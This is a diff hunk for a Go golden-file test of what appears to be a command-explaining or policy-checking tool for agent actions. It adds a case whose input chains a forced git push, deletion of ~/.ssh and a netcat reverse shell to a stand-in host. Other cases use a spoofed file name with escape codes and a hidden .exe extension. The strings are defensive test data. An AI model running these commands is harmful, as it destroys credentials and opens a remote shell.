@@ -25,6 +25,7 @@ func TestExplainGolden(t *testing.T) {
 		"narrow":        {"", []string{"--width", "40", "find . -name '*.go' -exec grep -l TODO {} +"}},
 		"policy_only":   {"", []string{"--until", "policy", "make test"}},
 		"write_file":    {`{"type":"write_file","payload":{"path":".git/hooks/pre-commit","content":"x"}}`, nil},
+		"rules":         {"", []string{`git push --force; rm -rf ~/.ssh "$HOME/$d"; cat a; nc -e /bin/sh x.test 9`}},
 		"controls":      {`{"type":"read_file","payload":{"path":"a\u001b]0;owned\u0007\u202etxt.exe"}}`, nil},
 		"broken_record": {"{\"type\":\"read_file\",\"type\":\"x\",\"payload\":{}}", nil},
 	} {
